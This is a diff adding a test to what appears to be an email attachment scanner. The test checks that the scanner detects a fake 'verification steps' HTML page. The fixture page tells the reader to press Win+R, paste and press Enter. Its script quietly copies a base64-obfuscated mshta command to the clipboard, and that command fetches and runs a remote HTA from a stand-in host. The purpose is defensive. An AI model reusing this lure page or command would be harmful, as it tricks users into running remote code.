@@ -67,3 +67,18 @@ def test_it_instructions_without_a_pretext_do_not_fire() -> None:
         "and press Enter. \\\\files01\\projects"
     )
     assert ID not in finding_ids(scan_offline(make_message(text=text)))
+
+
+ATOB_CLIPBOARD_PAGE = """<html><body><h2>Verification steps</h2>
+<p>Press Windows Button + R, press CTRL + V, press Enter.</p>
+<script>var _c=atob("bXNodGEgaHR0cHM6Ly94LmV4YW1wbGUvYS5odGE=");
+navigator.clipboard.writeText(_c);</script></body></html>"""
+
+
+def test_a_command_kept_in_base64_for_atob_is_read() -> None:
+    raw = make_message(
+        text="See attached.", attachments=[("View.html", "text/html", ATOB_CLIPBOARD_PAGE.encode())]
+    )
+    finding = next(f for f in scan_offline(raw).findings if f.id == ID)
+    assert "clipboard: mshta" in finding.evidence["signs"]
+    assert "windows button + r" in finding.evidence["signs"]
